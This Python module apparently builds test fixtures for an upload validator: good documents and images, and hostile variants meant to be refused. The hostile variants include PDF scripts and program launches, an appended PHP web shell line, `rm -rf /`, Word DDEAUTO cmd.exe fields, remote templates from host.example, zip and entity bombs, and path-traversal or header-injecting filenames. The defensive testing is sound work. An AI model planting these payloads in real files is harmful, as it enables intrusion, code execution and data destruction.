"""Files made here: good ones of every kind, and hostile ones. None is kept in the repository, none does harm where it is made."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


@dataclass(frozen=True)
class Hostile:
    """A file that must be refused: what it is, what it is called, its bytes, and the reason that must be given."""

    what: str
    name: str
    content: bytes
    code: str


# Good files


def pdf(pages: int = 1) -> bytes:
    """A plain PDF."""
    book = pikepdf.new()
    for _ in range(pages):
        book.add_blank_page(page_size=(200, 200))
    return _saved(book)


def _saved(book: pikepdf.Pdf, **options: object) -> bytes:
    content = io.BytesIO()
    book.save(content, **options)  # type: ignore[arg-type]
    return content.getvalue()


def jpeg(width: int = 64, height: int = 48, **options: object) -> bytes:
    """A plain photo."""
    content = io.BytesIO()
    Image.effect_noise((width, height), 40).convert("RGB").save(content, "JPEG", **options)
    return content.getvalue()


def png(width: int = 64, height: int = 48, mode: str = "RGB", **options: object) -> bytes:
    """A plain scan."""
    content = io.BytesIO()
    Image.effect_noise((width, height), 40).convert(mode).save(content, "PNG", **options)
    return content.getvalue()


def box(kind: bytes, body: bytes) -> bytes:
    """One box of an ISO media file."""
    return struct.pack(">I", 8 + len(body)) + kind + body


def heic(width: int = 4032, height: int = 3024) -> bytes:
    """The boxes of a phone's photo, without a picture: only its structure is looked at."""
    size = box(b"ispe", b"\0\0\0\0" + struct.pack(">II", width, height))
    meta = box(b"meta", b"\0\0\0\0" + box(b"iprp", box(b"ipco", size)))
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + meta + box(b"mdat", b"\x01" * 200)


TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body>{}</w:body></w:document>"
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(parts: dict[str, bytes] | None = None, *, body: str = "<w:p/>", types: bytes = TYPES) -> bytes:
    """A small Word document, with further parts."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", DOCUMENT.format(body))
        for name, part in (parts or {}).items():
            archive.writestr(name, part)
    return content.getvalue()


def relation(kind: str, target: str, *, external: bool = True, of: str = "word/_rels/document.xml.rels") -> dict[str, bytes]:
    """A part that says what the document belongs together with."""
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return {of: RELATIONS.format(line).encode()}


def archive(parts: dict[str, bytes] | None = None) -> bytes:
    """A plain zip."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as packed:
        for name, part in (parts or {"a.txt": b"a"}).items():
            packed.writestr(name, part)
    return content.getvalue()


GOOD = {
    "don.pdf": pdf(),
    "anh.jpg": jpeg(),
    "scan.png": png(),
    "scan-1bit.png": png(mode="1"),
    "iphone.heic": heic(),
    "don.docx": word(),
}


# Hostile files


def with_root(**entries: object) -> bytes:
    """A PDF whose catalogue says more than it should."""
    book = pikepdf.new()
    book.add_blank_page()
    for key, value in entries.items():
        book.Root[f"/{key}"] = book.make_indirect(value) if isinstance(value, Dictionary) else value
    return _saved(book)


def with_annotation(**entries: object) -> bytes:
    """A PDF with one annotation on its page."""
    book = pikepdf.new()
    page = book.add_blank_page()
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    page.obj["/Annots"] = book.make_indirect(Array([book.make_indirect(note)]))
    return _saved(book)


def with_file(content: bytes, name: str = "a.exe") -> bytes:
    """A PDF that carries a file."""
    book = pikepdf.new()
    book.add_blank_page()
    book.attachments[name] = pikepdf.AttachedFileSpec(  # type: ignore[call-arg]
        book, content, filename=name
    )
    return _saved(book)


def action(kind: str, **entries: object) -> Dictionary:
    """Something a PDF does."""
    return Dictionary(S=Name(f"/{kind}"), **entries)


def _pdfs() -> Iterator[Hostile]:
    def script() -> Dictionary:
        return action("JavaScript", JS=String("app.alert(1)"))

    good = pdf()
    yield from (
        Hostile(f"PDF: {what}", "don.pdf", content, code)
        for what, content, code in (
            ("a script on opening", with_root(OpenAction=script()), "active"),
            (
                "a script among its names",
                with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
                "active",
            ),
            ("a script when it is closed", with_root(AA=Dictionary(WC=script())), "active"),
            ("a script when it is printed", with_root(AA=Dictionary(WP=script())), "active"),
            ("a script in a stream", with_root(OpenAction=Dictionary(S=Name.JavaScript, JS=String("x" * 9000))), "active"),
            ("a script behind a link", with_annotation(Subtype=Name.Link, A=script()), "active"),
            ("a script after a harmless action", with_annotation(Subtype=Name.Link, A=action("GoTo", Next=script())), "active"),
            ("a program started on opening", with_root(OpenAction=action("Launch", F=String("cmd.exe"))), "active"),
            ("a program behind a link", with_annotation(Subtype=Name.Link, A=action("Launch", F=String("/bin/sh"))), "active"),
            ("a form that sends itself away", with_root(OpenAction=action("SubmitForm", F=String("http://x.example"))), "active"),
            ("data fetched into a form", with_root(OpenAction=action("ImportData", F=String("a.fdf"))), "active"),
            ("another file opened", with_root(OpenAction=action("GoToR", F=String("\\\\host\\share\\a.pdf"))), "active"),
            ("an embedded file opened", with_root(OpenAction=action("GoToE", T=Dictionary(R=Name.C))), "active"),
            ("a film", with_annotation(Subtype=Name.Movie), "active"),
            ("a sound", with_annotation(Subtype=Name.Sound), "active"),
            ("rich media", with_annotation(Subtype=Name.RichMedia), "active"),
            ("a screen", with_annotation(Subtype=Name.Screen), "active"),
            ("a model in three dimensions", with_annotation(Subtype=Name("/3D")), "active"),
            ("an XFA form", with_root(AcroForm=Dictionary(XFA=Array([]), Fields=Array([]))), "active"),
            (
                "a link that is a script",
                with_annotation(Subtype=Name.Link, A=action("URI", URI=String("javascript:alert(1)"))),
                "active",
            ),
            (
                "a link to a file of the reader",
                with_annotation(Subtype=Name.Link, A=action("URI", URI=String("file:///etc/passwd"))),
                "active",
            ),
            ("a link to a share", with_annotation(Subtype=Name.Link, A=action("URI", URI=String("\\\\host\\a"))), "active"),
            (
                "a link with a page in it",
                with_annotation(Subtype=Name.Link, A=action("URI", URI=String("data:text/html,x"))),
                "active",
            ),
            ("an attached program", with_file(b"MZ\x90\0" * 20), "embedded"),
            ("an attached archive", with_file(archive(), "a.zip"), "embedded"),
            ("an attached page", with_file(b"<html><script>alert(1)</script></html>", "a.html"), "embedded"),
            ("attached data that is a page", with_file(b"<svg xmlns='x'><script/></svg>", "a.xml"), "embedded"),
            ("attached data with entities", with_file(b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "a.xml"), "embedded"),
            ("attached data that is none", with_file(b"{not json", "a.json"), "embedded"),
            ("an attached PDF", with_file(good, "a.pdf"), "embedded"),
            ("a file pinned to a page", with_annotation(Subtype=Name.FileAttachment), "embedded"),
            ("a password", _locked("bí mật"), "encrypted"),
            ("restrictions", _locked(""), "encrypted"),
            ("cut off", good[: len(good) // 2], "broken"),
            ("its end missing", good[:-30], "broken"),
            ("nothing but head and end", b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "broken"),
            ("no pages", _saved(pikepdf.new()), "broken"),
            ("objects overwritten", good[:20] + b"\0" * (len(good) - 70) + good[-50:], "broken"),
            ("too many pages", pdf(2001), "pages"),
            ("a picture with too many pixels", _huge_picture(), "pixels"),
            ("streams kept elsewhere", _outside_stream(), "remote"),
            ("a page before it", b"<html><script>alert(1)</script></html>\n" + good, "disguised"),
            ("a program before it", b"MZ\x90\0" + b"\0" * 60 + good, "disguised"),
            ("a picture before it", b"GIF89a" + good, "disguised"),
            ("a page in its first line", good.replace(b"%PDF-1", b"%PDF-1.7<script>alert(1)</script>\n%", 1), "disguised"),
            ("a page after it", good + b"<html><body onload=alert(1)></html>", "disguised"),
            ("a program after it", good + b"MZ\x90\0\x03" * 9, "disguised"),
            ("a server's script after it", good + b"<?php system($_GET[0]); ?>", "disguised"),
            ("a shell script after it", good + b"\n#!/bin/sh\nrm -rf /\n", "disguised"),
            ("an archive after it", good + archive(), "disguised"),
            (
                "a Java archive after it",
                good + archive({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
                "disguised",
            ),
            ("an archive around it", _archive_around(good), "disguised"),
        )
    )


def _locked(word: str) -> bytes:
    book = pikepdf.new()
    book.add_blank_page()
    return _saved(book, encryption=pikepdf.Encryption(owner="chủ", user=word))


def _huge_picture() -> bytes:
    book = pikepdf.new()
    page = book.add_blank_page()
    stream = book.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=60000, Height=60000, BitsPerComponent=8)
    page.obj["/Resources"] = Dictionary(XObject=Dictionary(A=stream))
    return _saved(book)


def _outside_stream() -> bytes:
    book = pikepdf.new()
    page = book.add_blank_page()
    page.obj["/Contents"] = book.make_stream(b"", F=String("http://host.example/a"))
    return _saved(book)


def _archive_around(inner: bytes) -> bytes:
    """A zip in whose comment the end of a PDF stands: unpackers see an archive, readers see the PDF."""
    packed = bytearray(archive())
    tail = b"\nstartxref\n0\n%%EOF\n"
    packed[-2:] = len(tail).to_bytes(2, "little")
    return inner.rsplit(b"startxref", 1)[0] + bytes(packed) + tail


def segment(marker: int, body: bytes) -> bytes:
    """One part of a JPEG's head."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _jpegs() -> Iterator[Hostile]:
    good = jpeg()
    page = b"<html><script>alert(1)</script></html>"

    def said(body: bytes) -> bytes:
        return good[:2] + segment(0xFE, body) + good[2:]

    yield from (
        Hostile(f"JPEG: {what}", "anh.jpg", content, code)
        for what, content, code in (
            ("a page in its comment", said(page), "disguised"),
            ("a server's script in its comment", said(b"<?php system($_GET[0]); ?>"), "disguised"),
            ("a drawing in its comment", said(b"<svg onload=alert(1)>"), "disguised"),
            ("a page among the camera's facts", good[:2] + segment(0xE1, b"Exif\0\0" + page) + good[2:], "disguised"),
            ("a page after it", good + page, "disguised"),
            ("a server's script after it", good + b"<?php echo 1; ?>", "disguised"),
            ("an archive after it", good + archive(), "disguised"),
            ("a Java archive after it", good + archive({"A.class": b"\xca\xfe\xba\xbe"}), "disguised"),
            ("a Word document after it", good + word(), "disguised"),
            ("a program after it", good + b"MZ\x90\0" * 9, "disguised"),
            ("a Linux program after it", good + b"\x7fELF" + b"\0" * 60, "disguised"),
            ("a PDF after it", good + pdf(), "disguised"),
            ("an archive of another kind after it", good + b"Rar!\x1a\x07\x00" + b"\0" * 30, "disguised"),
            ("cut off in its head", good[:30], "broken"),
            ("cut off in the picture", good[: len(good) - 200], "broken"),
            ("nothing but a head", b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + b"\0" * 20, "broken"),
            ("too many pixels", _resized(good, 65000, 65000), "pixels"),
            ("no pixels", _resized(good, 0, 0), "broken"),
        )
    )


def _resized(content: bytes, width: int, height: int) -> bytes:
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def chunk(kind: bytes, body: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def drawn(width: int, height: int, packed: bytes, extra: bytes = b"") -> bytes:
    """A PNG whose head promises a size, and whose picture is `packed`."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def _pngs() -> Iterator[Hostile]:
    good = png()
    small = zlib.compress(b"\0" * (9 * 8))
    yield from (
        Hostile(f"PNG: {what}", "scan.png", content, code)
        for what, content, code in (
            ("more than it promises, 200 MB of it", drawn(8, 8, zlib.compress(b"\0" * 200_000_000, 9)), "bomb"),
            ("less than it promises", drawn(9, 9, small), "broken"),
            ("a hundred thousand pixels each way", drawn(100_000, 100_000, small), "pixels"),
            ("as wide as numbers go", drawn(0x7FFFFFFF, 0x7FFFFFFF, small), "pixels"),
            ("no pixels", drawn(0, 8, small), "broken"),
            ("a picture that is none", drawn(8, 8, b"not packed"), "broken"),
            ("a wrong checksum", good[:40] + b"\xff" + good[41:], "broken"),
            ("cut off", good[:-60], "broken"),
            ("no end", good[:-12], "broken"),
            ("a page in its text", drawn(8, 8, small, chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "disguised"),
            ("a drawing in its text", drawn(8, 8, small, chunk(b"iTXt", b"a\0\0\0\0\0<svg onload=alert(1)>")), "disguised"),
            ("a server's script in its text", drawn(8, 8, small, chunk(b"tEXt", b"a\0<?php system(1); ?>")), "disguised"),
            ("a page after it", good + b"<html></html>", "disguised"),
            ("an archive after it", good + archive(), "disguised"),
            ("a program after it", good + b"MZ\x90\0" * 9, "disguised"),
            ("a PDF after it", good + pdf(), "disguised"),
        )
    )


def _heics() -> Iterator[Hostile]:
    good = heic()
    yield from (
        Hostile(f"HEIC: {what}", "anh.heic", content, code)
        for what, content, code in (
            ("too many pixels", heic(100_000, 100_000), "pixels"),
            ("cut off", good[:-50], "broken"),
            ("no description", box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"mdat", b"\0" * 40), "broken"),
            ("an archive after it", good + archive(), "disguised"),
            ("a page after it", good + b"<html><script>alert(1)</script>", "disguised"),
            ("an archive in a box of it", good + box(b"free", archive()), "disguised"),
            (
                "a page in its description",
                good.replace(box(b"mdat", b"\x01" * 200), box(b"meta", b"<script >" + b"\0" * 40)),
                "disguised",
            ),
        )
    )


def _words() -> Iterator[Hostile]:
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
    good = word()
    yield from (
        Hostile(f"Word: {what}", "don.docx", content, code)
        for what, content, code in (
            ("macros", word({"word/vbaProject.bin": b"x"}), "macros"),
            ("macros in other letters", word({"word/VBAPROJECT.BIN": b"x"}), "macros"),
            ("macros under another name", word(relation("vbaProject", "a.bin", external=False)), "macros"),
            (
                "the type of a document with macros",
                word(types=TYPES.replace(b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")),
                "macros",
            ),
            ("an ActiveX control", word({"word/activeX/activeX1.xml": b"<a/>"}), "active"),
            ("a control in the text", word(body='<w:control xmlns:r="r" r:id="r1"/>'), "active"),
            ("buttons of its own", word({"customUI/customUI.xml": b'<customUI onLoad="a"/>'}), "active"),
            ("a page put into the text", word(relation("aFChunk", "a.html", external=False)), "active"),
            ("a page in a part for it", word({"word/afchunk1.html": b"<html/>"}), "active"),
            ("an embedded object", word({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"),
            ("an embedded table", word({"word/embeddings/a.xlsx": archive()}), "embedded"),
            ("an embedded program", word({"word/media/a.exe": b"MZ"}), "embedded"),
            ("a script", word({"word/a.js": b"alert(1)"}), "embedded"),
            ("an archive inside", word({"word/media/a.zip": archive()}), "embedded"),
            ("a Java class", word({"A.class": b"\xca\xfe\xba\xbe"}), "embedded"),
            ("a part without an ending", word({"word/media/program": b"MZ"}), "embedded"),
            (
                "a template from elsewhere",
                word(relation("attachedTemplate", "http://host.example/a.dotm", of="word/_rels/settings.xml.rels")),
                "remote",
            ),
            (
                "a template from a share",
                word(relation("attachedTemplate", "\\\\host\\a.dotm", of="word/_rels/settings.xml.rels")),
                "remote",
            ),
            ("a picture from elsewhere", word(relation("image", "http://host.example/a.png")), "remote"),
            ("a frame from elsewhere", word(relation("frame", "http://host.example/")), "remote"),
            ("an object from elsewhere", word(relation("oleObject", "http://host.example/a.hta")), "remote"),
            ("a link to a file of the reader", word(relation("hyperlink", "file:///C:/Windows/system32/calc.exe")), "remote"),
            ("a link that is a script", word(relation("hyperlink", "javascript:alert(1)")), "remote"),
            ("a field that runs a program", word(body=field.format('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "remote"),
            ("such a field in pieces", word(body=field.format("DD") + field.format("EAUTO cmd")), "remote"),
            ("such a field written short", word(body='<w:fldSimple w:instr="DDE cmd a"/>'), "remote"),
            ("a picture fetched by a field", word(body=field.format('INCLUDEPICTURE "http://host.example/a"')), "remote"),
            (
                "such a field in UTF-16",
                word(
                    {"word/header1.xml": DOCUMENT.format(field.format("DDEAUTO cmd")).replace("UTF-8", "UTF-16").encode("utf-16")}
                ),
                "remote",
            ),
            ("entities", word({"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "bomb"),
            (
                "entities a thousand times over",
                word({"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 999 + b'"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>'}),
                "bomb",
            ),
            ("400 MB of nothing", word({"word/media/a.png": b"\0" * 400_000_000}), "bomb"),
            ("50 MB of nothing", word({"word/media/a.png": b"\0" * 50_000_000}), "bomb"),
            ("many thousand parts", word({f"word/media/{n}.png": b"" for n in range(5001)}), "bomb"),
            ("parts that share their bytes", _overlapping(), "bomb"),
            ("a password", _zip_locked(good), "encrypted"),
            ("a part outside of it", word({"../../etc/cron.xml": b"<a/>"}), "disguised"),
            ("a part at the root of the disk", word({"/etc/cron.xml": b"<a/>"}), "disguised"),
            ("a part on a drive", word({"C:/a.xml": b"<a/>"}), "disguised"),
            ("the same part twice", _twice(), "disguised"),
            ("a program before it", b"PK\x03\x04" + b"\0" * 60 + good, "disguised"),
            ("something after it", good + b"<html></html>", "disguised"),
            ("a comment that is a PDF", _commented(good), "disguised"),
            ("text that is no XML", word({"word/footer1.xml": b"<a><b></a>"}), "broken"),
            ("cut off", good[:-40], "broken"),
            ("a wrong checksum", _wrong_checksum(), "broken"),
        )
    )


def _overlapping() -> bytes:
    """Two entries of the directory that point at the same bytes."""
    content = bytearray(word({"word/media/a.png": b"a" * 900, "word/media/b.png": b"b" * 900}))
    directory = content.index(b"PK\x01\x02")
    entries = [at for at in range(directory, len(content)) if content[at : at + 4] == b"PK\x01\x02"]
    content[entries[3] + 42 : entries[3] + 46] = content[entries[2] + 42 : entries[2] + 46]
    return bytes(content)


def _zip_locked(good: bytes) -> bytes:
    content = bytearray(good)
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


def _twice() -> bytes:
    content = io.BytesIO(word())
    with zipfile.ZipFile(content, "a") as packed:
        packed.writestr("WORD/document.xml", DOCUMENT.format(""))
    return content.getvalue()


def _commented(good: bytes) -> bytes:
    comment = b"%PDF-1.7 startxref 0 %%EOF"
    return good[:-2] + len(comment).to_bytes(2, "little") + comment


def _wrong_checksum() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_STORED) as packed:
        packed.writestr("[Content_Types].xml", TYPES)
        packed.writestr("word/document.xml", DOCUMENT.format("<w:p/>"))
    return content.getvalue().replace(b"<w:p/>", b"<w:q/>", 1)


def _others() -> Iterator[Hostile]:
    kinds = {
        "trang.html": b"<html><script>alert(1)</script></html>",
        "trang.pdf": b"<!DOCTYPE html><script>alert(1)</script>",
        "hinh.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "hinh.png": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
        "chuong-trinh.exe": b"MZ\x90\0" * 30,
        "anh.jpg.exe": b"MZ\x90\0" * 30,
        "anh.jpg": b"\x7fELF" + b"\0" * 60,
        "lenh.sh": b"#!/bin/sh\nrm -rf /\n",
        "lenh.pdf": b"#!/usr/bin/python\n",
        "may-chu.php": b"<?php system($_GET[0]); ?>",
        "may-chu.jpg": b"<?php system($_GET[0]); ?>",
        "hinh.gif": b"GIF89a" + b"\0" * 50,
        "gifar.gif": b"GIF89a" + archive({"A.class": b"\xca\xfe\xba\xbe"}),
        "phim.mp4": box(b"ftyp", b"isom\0\0\0\0isommp42") + b"\0" * 20,
        "anh.avif": box(b"ftyp", b"avif\0\0\0\0mif1avif") + b"\0" * 20,
        "anh.webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 20,
        "anh.bmp": b"BM" + b"\0" * 60,
        "anh.tiff": b"II*\0" + b"\0" * 60,
        "nen.zip": archive(),
        "bang.docx": archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>"}),
        "nen.rar": b"Rar!\x1a\x07\x00" + b"\0" * 30,
        "nen.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 30,
        "nen.gz": b"\x1f\x8b\x08" + b"\0" * 30,
        "dia.iso": b"\0" * 32769 + b"CD001",
        "loi-tat.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
        "chu.rtf": b"{\\rtf1{\\object\\objdata 0105}}",
        "chu.txt": b"xin ch\xc3\xa0o",
        "thu.eml": b"From: a\r\nContent-Type: text/html\r\n\r\n<script>",
        "lop.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 30,
        "ban-ve.ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
        "khong.pdf": b"\0" * 5000,
        "ngau-nhien.pdf": bytes(range(256)) * 20,
    }
    yield from (Hostile(f"another kind: {name}", name, content, "type") for name, content in kinds.items())
    yield Hostile("an old Word file", "cu.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word")
    yield Hostile("an old Word file called DOCX", "cu.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word")
    yield Hostile("nothing", "trong.pdf", b"", "empty")


TRICKS = (
    "../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\a.pdf",
    "/etc/cron.d/a.pdf",
    "C:\\Windows\\a.pdf",
    "a/b.pdf",
    "don\u202efdp.exe",
    "don\u2066gpj\u2069.pdf",
    "a\0.pdf",
    "a\r\nSet-Cookie: x=1.pdf",
    "a\x1b[2J.pdf",
    "\ud800.pdf",
    "x" * 256 + ".pdf",
)
"""Names that no browser sends of itself."""


def hostile() -> list[Hostile]:
    """All of them."""
    named = [Hostile(f"a name: {name!r}"[:60], name, pdf(), "name") for name in TRICKS]
    return [*_pdfs(), *_jpegs(), *_pngs(), *_heics(), *_words(), *_others(), *named]
